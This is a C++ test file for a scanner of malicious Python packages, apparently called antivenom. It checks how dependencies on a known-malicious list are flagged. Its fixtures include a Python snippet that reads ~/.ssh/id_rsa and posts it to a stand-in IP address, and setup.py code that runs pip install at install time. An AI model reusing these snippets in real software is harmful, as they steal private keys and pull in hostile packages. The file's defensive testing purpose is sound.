// Dependencies that are known or found to be malicious, from outside: lists of the user, packages scanned together.
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <sstream>

#include "../support/packages.h"
#include "../support/process.h"

namespace antivenom {
namespace {

using nlohmann::json;
using test_support::Finished;
using test_support::TemporaryFolder;

std::string setup_of(const std::string& name, const std::string& more = {}) {
  return "from setuptools import setup\nsetup(name='" + name + "', version='1.0'" + more + ")\n";
}

// Reads and sends what is private: malicious by any standard.
constexpr std::string_view kHostile =
    "import os, requests\n"
    "data = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    "requests.post('http://192.0.2.7/up', data=data)\n";

class Dependencies : public ::testing::Test {
 protected:
  void package(const std::string& path, const std::string& name, const std::string& setup, std::string_view code = "",
               const std::string& requires_dist = {}) {
    testing::TarBuilder tar;
    tar.add(name + "-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: " + name + "\nVersion: 1.0\n" + requires_dist);
    tar.add(name + "-1.0/setup.py", setup);
    tar.add(name + "-1.0/" + name + "/__init__.py", code);
    folder_.write(path, testing::gzipped(tar.finished()));
  }
  // path -> report.
  std::map<std::string, json> scan(std::vector<std::string> arguments) {
    arguments.insert(arguments.begin(), {"scan", "--format=json"});
    const Finished finished = test_support::run_antivenom(arguments, folder_);
    EXPECT_EQ(finished.err, "");
    std::map<std::string, json> reports;
    std::istringstream lines(finished.out);
    for (std::string line; std::getline(lines, line);) {
      const json report = json::parse(line);
      reports[std::string(report["artifact"]["path"])] = report;
    }
    return reports;
  }
  // "verdict; why of the evidence that names a dependency". What is at least suspicious depends on the model.
  static std::string told(const json& report, bool exact = true) {
    std::string out = exact || report["verdict"] == "clean" ? std::string(report["verdict"]) : "at least suspicious";
    for (const json& evasion : report["evasions"]) {
      if (evasion["id"] != "indirect-import") continue;
      for (const json& e : evasion["evidence"])
        out += "; " + std::string(e["file"]) + ":" + std::to_string(int(e["line"])) + " " + std::string(e["why"]);
    }
    return out;
  }
  TemporaryFolder folder_;
};

TEST_F(Dependencies, whatever_brings_in_a_listed_package_is_malicious_and_says_why) {
  folder_.write("bad.txt", "# mine\nEvil_Tool\n");
  const std::string list = "(bad.txt, line 2: all versions)";
  package("a.tar.gz", "a", setup_of("a"), "", "Requires-Dist: requests\nRequires-Dist: evil.tool (>=1)\n");
  package("b.tar.gz", "b", setup_of("b", ", install_requires=['evil-tool==3']"));
  package("c.tar.gz", "c", setup_of("c", ", dependency_links=['https://example.com/evil-tool-2.0.tar.gz']"));
  package("d.tar.gz", "d", setup_of("d", ", install_requires=['evil-tool @ git+https://example.com/x.git']"));
  package("e.tar.gz", "e", "import os\nos.system('python -m pip install -q evil-tool')\n" + setup_of("e"));
  package("f.tar.gz", "f", setup_of("f"),
          "import subprocess, sys\n\ndef get():\n    subprocess.run([sys.executable, '-m', 'pip', 'install', "
          "'evil_tool'])\n");
  package("g.tar.gz", "g", setup_of("g"), "import evil_tool\n" + std::string(60, '\n') + "VALUE = 1\n");
  package("h.tar.gz", "h", setup_of("h"), "import requests\n", "Requires-Dist: eviltool\n");
  auto reports = scan({"--known-malicious", "bad.txt", "a.tar.gz", "b.tar.gz", "c.tar.gz", "d.tar.gz", "e.tar.gz",
                       "f.tar.gz", "g.tar.gz", "h.tar.gz"});
  const std::string requires_it = "requires evil-tool, which is known to be malicious by your list " + list;
  EXPECT_EQ(told(reports["a.tar.gz"]), "malicious; PKG-INFO:5 " + requires_it);
  EXPECT_EQ(told(reports["b.tar.gz"]), "malicious; setup.py:2 " + requires_it);
  EXPECT_EQ(told(reports["c.tar.gz"]), "malicious; setup.py:2 " + requires_it);
  EXPECT_EQ(told(reports["d.tar.gz"]), "malicious; setup.py:2 " + requires_it);
  EXPECT_EQ(told(reports["e.tar.gz"]),
            "malicious; setup.py:2 installs evil-tool, which is known to be malicious by your list " + list);
  EXPECT_EQ(told(reports["f.tar.gz"]),
            "malicious; f/__init__.py:4 installs evil-tool, which is known to be malicious by your list " + list);
  EXPECT_EQ(
      told(reports["g.tar.gz"], false),
      "at least suspicious; g/__init__.py:1 imports evil-tool, which is known to be malicious by your list " + list);
  EXPECT_EQ(told(reports["h.tar.gz"]), "clean");
  EXPECT_EQ(reports["a.tar.gz"]["evasions"][0]["evidence"][0]["code"], "Requires-Dist: evil.tool (>=1)");
  EXPECT_EQ(reports["a.tar.gz"]["evasions"][0]["trigger"], "install");
  EXPECT_EQ(told(scan({"a.tar.gz"})["a.tar.gz"]), "clean");
}

TEST_F(Dependencies, versions_decide_where_the_list_has_them) {
  folder_.write(
      "bad.json",
      R"({"id": "MAL-1", "affected": [{"package": {"ecosystem": "PyPI", "name": "tool"}, "versions": ["1.3"]}]})");
  package("pinned.tar.gz", "a", setup_of("a"), "", "Requires-Dist: tool==1.3\n");
  package("other.tar.gz", "b", setup_of("b"), "", "Requires-Dist: tool!=1.3\n");
  package("open.tar.gz", "c", setup_of("c"), "", "Requires-Dist: tool>=1\n");
  auto reports = scan({"--known-malicious=bad.json", "pinned.tar.gz", "other.tar.gz", "open.tar.gz"});
  EXPECT_EQ(told(reports["pinned.tar.gz"]),
            "malicious; PKG-INFO:4 requires tool, which is known to be malicious by your list (bad.json, MAL-1: "
            "version 1.3)");
  EXPECT_EQ(told(reports["other.tar.gz"]), "clean");
  EXPECT_EQ(told(reports["open.tar.gz"]),
            "clean; PKG-INFO:4 requires tool, which has versions that are known to be malicious by your list "
            "(bad.json, MAL-1: version 1.3)");
}

TEST_F(Dependencies, a_package_on_the_list_is_said_to_be_only_that) {
  folder_.write("bad.csv", "name,version\na,1.0\nb,2.0\n");
  folder_.write("antivenom.toml", "known-malicious = [\"bad.csv\"]\n");
  package("a.tar.gz", "a", setup_of("a"));
  package("b.tar.gz", "b", setup_of("b"));
  const Finished finished = test_support::run_antivenom({"scan", "--format=json", "a.tar.gz", "b.tar.gz"}, folder_);
  EXPECT_EQ(finished.code, 1);
  std::istringstream lines(finished.out);
  std::string first, second;
  std::getline(lines, first);
  std::getline(lines, second);
  const json a = json::parse(first), b = json::parse(second);
  EXPECT_EQ(a["verdict"], "malicious");
  EXPECT_EQ(a["score"], b["score"]);
  EXPECT_TRUE(
      std::string(a["summary"])
          .starts_with("Your list of known-malicious packages names a (bad.csv, line 2: version 1.0), which alone "
                       "makes it malicious. Nothing hostile found"))
      << a["summary"];
  EXPECT_EQ(a["known_malicious"].dump(), R"({"line":2,"list":"bad.csv","name":"a","versions":"version 1.0"})");
  EXPECT_TRUE(a["evasions"].empty());
  const json sarif =
      json::parse(test_support::run_antivenom({"scan", "--format=sarif", "a.tar.gz"}, folder_).out)["runs"][0];
  EXPECT_EQ(sarif["results"][0]["ruleId"], "known-malicious");
  EXPECT_EQ(sarif["results"][0]["message"]["text"], "bad.csv names a: version 1.0");
  EXPECT_EQ(b["verdict"], "clean");
  EXPECT_FALSE(b.contains("known_malicious"));
}

TEST_F(Dependencies, a_broken_list_is_wrong_use) {
  folder_.write("bad.txt", "fine\nno name at all\n");
  package("a.tar.gz", "a", setup_of("a"));
  const Finished finished = test_support::run_antivenom({"scan", "--known-malicious", "bad.txt", "a.tar.gz"}, folder_);
  EXPECT_EQ(finished.code, 2);
  EXPECT_EQ(finished.err, "antivenom: bad.txt: line 2 names no package\n");
  EXPECT_EQ(test_support::run_antivenom({"scan", "--known-malicious", "none.txt", "a.tar.gz"}, folder_).code, 2);
}

TEST_F(Dependencies, packages_scanned_together_judge_each_other_in_any_order) {
  package("all/evil-1.0.tar.gz", "evil", setup_of("evil"), kHostile);
  package("all/direct-1.0.tar.gz", "direct", setup_of("direct"), "", "Requires-Dist: evil\n");
  package("all/far-1.0.tar.gz", "far", setup_of("far"), "", "Requires-Dist: direct>=1\n");
  package("all/ring_a-1.0.tar.gz", "ring_a", setup_of("ring_a"), "", "Requires-Dist: ring-b\n");
  package("all/ring_b-1.0.tar.gz", "ring_b", setup_of("ring_b"), "",
          "Requires-Dist: ring-a\nRequires-Dist: evil<0.5\n");
  package("all/zeal-1.0.tar.gz", "zeal", "import os\nos.system('pip install evil')\n" + setup_of("zeal"));
  const std::string scanned = "was scanned and is malicious (evil-1.0.tar.gz)";
  for (const char* jobs : {"--jobs=1", "--jobs=7"}) {
    for (bool backwards : {false, true}) {
      std::vector<std::string> names = {"direct", "evil", "far", "ring_a", "ring_b", "zeal"};
      if (backwards) std::reverse(names.begin(), names.end());
      std::vector<std::string> arguments = {jobs};
      for (const std::string& name : names) arguments.push_back("all/" + name + "-1.0.tar.gz");
      auto reports = scan(arguments);
      EXPECT_EQ(reports["all/evil-1.0.tar.gz"]["verdict"], "malicious");
      EXPECT_EQ(told(reports["all/direct-1.0.tar.gz"], false),
                "at least suspicious; PKG-INFO:4 requires evil, which " + scanned);
      EXPECT_EQ(told(reports["all/far-1.0.tar.gz"], false),
                "at least suspicious; PKG-INFO:4 requires direct, which requires evil, which " + scanned);
      EXPECT_EQ(told(reports["all/ring_a-1.0.tar.gz"]), "clean");
      EXPECT_EQ(told(reports["all/ring_b-1.0.tar.gz"]), "clean");
      EXPECT_EQ(told(reports["all/zeal-1.0.tar.gz"], false),
                "at least suspicious; setup.py:2 installs evil, which " + scanned);
      EXPECT_EQ(reports["all/direct-1.0.tar.gz"]["evasions"][0]["evidence"][0]["code"], "Requires-Dist: evil");
    }
  }
  auto alone = scan({"all/direct-1.0.tar.gz"});
  EXPECT_EQ(told(alone["all/direct-1.0.tar.gz"]), "clean");
  auto beside = scan({"--dependencies", "all", "all/direct-1.0.tar.gz"});
  ASSERT_EQ(beside.size(), 1u);
  EXPECT_EQ(told(beside["all/direct-1.0.tar.gz"], false),
            "at least suspicious; PKG-INFO:4 requires evil, which " + scanned);
}

}  // namespace
}  // namespace antivenom
